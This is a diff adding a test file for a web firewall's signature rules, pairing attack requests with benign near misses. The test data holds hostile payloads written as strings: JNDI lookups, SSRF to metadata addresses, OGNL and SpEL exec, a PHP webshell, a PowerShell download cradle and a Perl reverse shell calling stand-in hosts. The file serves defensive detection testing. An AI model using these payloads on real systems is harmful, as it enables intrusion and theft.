@@ -1,0 +1,82 @@
+/**
+ * The exact signatures for the attack families of issue 14: each fires on its attack and stays quiet
+ * on the benign value closest to it (the near miss a narrower rule would be tempted to catch).
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { fileURLToPath } from 'node:url';
+import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
+import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
+import type { RequestSpec } from './fixtures.js';
+import { buildInspection } from './fixtures.js';
+
+const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
+const BROWSER: Array<[string, string]> = [
+  ['Host', 'shop.example.com'],
+  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
+];
+const JSON_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/json']];
+const FORM_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']];
+
+let gate: CompiledSignatureGate;
+beforeAll(async () => {
+  gate = (await loadRuleSet([RULES])).gate;
+});
+const hits = (spec: RequestSpec): Array<[number, string]> => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => [h.sid, h.effect]);
+const q = (query: string): RequestSpec => ({ url: `/search?${query}` });
+const json = (body: string): RequestSpec => ({ method: 'POST', url: '/api/items', headers: JSON_HEADERS, body });
+const form = (body: string): RequestSpec => ({ method: 'POST', url: '/submit', headers: FORM_HEADERS, body });
+const header = (name: string, value: string): RequestSpec => ({ headers: [...BROWSER, [name, value]] });
+
+// [sid, effect, attack, benign near miss]
+const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
+  [9000804, 'block', 'a nested-lookup JNDI in a header', header('X-Api-Version', '${${lower:j}${upper:n}di:ldap://x.test/a}'), header('X-Template', 'Hello ${user.name}, see ${env.HOME}')],
+  [9000804, 'block', 'a percent-encoded JNDI in a form', form('q=%24%7Bjndi%3Aldap%3A%2F%2Fx.test%2Fa%7D'), form('q=%24%7Bprice%7D+per+month')],
+  [9000805, 'block', 'a JNDI lookup in the decoded URI', q('x=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx.test%2Fo%7D'), q('tpl=%24%7BmoduleName%7D%3F%24%7BDate.now()%7D')],
+  [9000504, 'block', 'a metadata address in IPv6-mapped hex', q('url=http%3A%2F%2F%5B%3A%3Affff%3Aa9fe%3Aa9fe%5D%2Flatest%2Fmeta-data%2F'), q('q=what+is+169.254.169.254')],
+  [9000504, 'block', 'the ECS task metadata address', json('{"hook":"http://169.254.170.2/v2/credentials/"}'), json('{"hook":"http://169.254.170.20/status"}')],
+  [9000505, 'block', 'the Docker API on localhost', q('url=http%3A%2F%2F127.0.0.1%3A2375%2Fcontainers%2Fjson'), q('url=http%3A%2F%2F127.0.0.1%3A3000%2Fcallback')],
+  [9000506, 'block', 'a cluster service in a JSON body', json('{"avatar":"http://kubernetes.default.svc/api/v1/secrets"}'), json('{"avatar":"https://cdn.example.com/kubernetes.default.png"}')],
+  [9001006, 'block', 'a base64 Java object', form('state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'), form('state=xrO0ABXzzq1')],
+  [9001006, 'block', 'a node-serialize function', json('{"u":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'), json('{"u":"ND_FUNC is a constant"}')],
+  [9001007, 'block', 'a fastjson @type gadget', json('{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test/a"}}'), json('{"@type":"Person","name":"Ada"}')],
+  [9001008, 'suspicious', 'a reflection class name', q('c=java.lang.Runtime'), q('q=java+runtime+environment')],
+  [9001305, 'block', 'OGNL member access', header('Content-Type', "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"), header('X-Note', 'member access (see #_docs)')],
+  [9001306, 'block', 'SpEL reaching Runtime', q('sort=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D'), q('q=T(n)+%3D+2T(n%2F2)+%2B+n')],
+  [9001307, 'block', 'mainModule.require', json('{"n":"process.mainModule.require(\'child_process\').execSync(\'id\')"}'), json('{"n":"module.require is documented in the API"}')],
+  [9001308, 'suspicious', 'child_process required and called', form('code=require(%27child_process%27).exec(%27id%27)'), form('q=is+child_process+safe')],
+  [9001309, 'block', '__proto__ as a query parameter name', q('__proto__[isAdmin]=true'), q('q=__proto__+vs+prototype')],
+  [9001310, 'block', 'a __proto__ key in a JSON body', json('{"user":{"__proto__":{"isAdmin":true}}}'), json('{"doc":"set {\\"__proto__\\": {}} to see it"}')],
+  [9001310, 'block', 'constructor[prototype] in a form', form('constructor%5Bprototype%5D%5Bx%5D=1'), form('q=constructor+prototype')],
+  [9001311, 'block', 'a PHP webshell one-liner', form('c=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E'), form('c=%3C%3Fphp+echo+htmlspecialchars(%24name)%3B+%3F%3E')],
+  [9001312, 'suspicious', 'a PHP ini directive', q('x=-d+allow_url_include%3D1'), q('q=allow+url+include+php')],
+  [9001313, 'block', 'JSFuck', json('{"x":"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"}'), json('{"x":"[[], [1, 2]]"}')],
+  [9001314, 'suspicious', 'a template-literal eval', json('{"x":"eval`process.exit()`"}'), json('{"x":"see `eval` docs"}')],
+  [9001315, 'block', 'a PHP variable function through input', form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), form('x=%24_GET%5B%27f%27%5D')],
+  [9000306, 'suspicious', 'a command substitution at the start of a value', q('host=127.0.0.1%24(id)'), q('price=%2450+(approx)')],
+  [9000307, 'block', 'PowerShell -EncodedCommand', q('x=%7Cpowershell+-nop+-enc+SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0'), q('q=powershell+-enc+parameter+meaning')],
+  [9000308, 'suspicious', 'a PowerShell download cradle', form('x=IEX(New-Object+Net.WebClient).DownloadString(%27http%3A%2F%2Fx.test%27)'), form('x=web+client+download+string')],
+  [9000309, 'suspicious', 'caret-escaped cmd', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), form('new_password=xE%5ER%5EA9')],
+  [9000310, 'suspicious', 'a Perl reverse shell', q('x=perl+-MIO+-e+%27%24c%3Dnew+IO%3A%3ASocket%3A%3AINET(PeerAddr%2C%221.2.3.4%3A80%22)%3BSTDIN-%3Efdopen(%24c%2Cr)%27'), q('q=IO%3A%3ASocket%3A%3AINET+tutorial')],
+  [9001208, 'block', 'CRLF then Set-Cookie in the URI', { url: '/lang/en%0d%0aSet-Cookie:%20sid=1' }, { url: '/notes?text=line1%0d%0aline2' }],
+  [9001209, 'block', 'encoded CRLF then Set-Cookie in a form', form('next=%2F%250d%250aSet-Cookie%3A+sid%3D1'), form('msg=Hi%0D%0ALocation%3A+Berlin')],
+  [9001210, 'block', 'a meta Set-Cookie', form('bio=%3Cmeta+http-equiv%3D%22Set-Cookie%22+content%3D%22sid%3D1%22%3E'), form('bio=%3Cmeta+http-equiv%3D%22refresh%22+content%3D%225%22%3E')],
+  [9001404, 'block', 'a .git/config probe', { url: '/app/.git/config' }, { url: '/docs/git/config' }],
+  [9001404, 'block', 'a .env probe', { url: '/.env' }, { url: '/files?name=~/Projects/app/.env.example' }],
+  [9001405, 'block', 'a backup of wp-config', { url: '/wp-config.php.bak' }, { url: '/blog/backup-strategies.html' }],
+  [9001405, 'block', 'a database dump', { url: '/backup.sql.gz' }, { url: '/downloads/release-1.2.tar.gz' }],
+];
+
+describe('bundled rules for the issue-14 attack families', () => {
+  it.each(CASES.map(([sid, effect, name, attack]) => [`${sid} ${name}`, sid, effect, attack] as const))('%s: fires', (_n, sid, effect, attack) => {
+    expect(hits(attack)).toContainEqual([sid, effect]);
+  });
+
+  it.each(CASES.map(([sid, , name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
+    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
+  });
+
+  it('9001101 reads tool names as words: a WordPress site called hydrant is no scanner', () => {
+    expect(hits(header('User-Agent', 'WordPress/6.5.2; https://bogus-hydrant.us')).map(([s]) => s)).not.toContain(9001101);
+    expect(hits(header('User-Agent', 'Mozilla/5.0 (Hydra)')).map(([s]) => s)).toContain(9001101);
+  });
+});
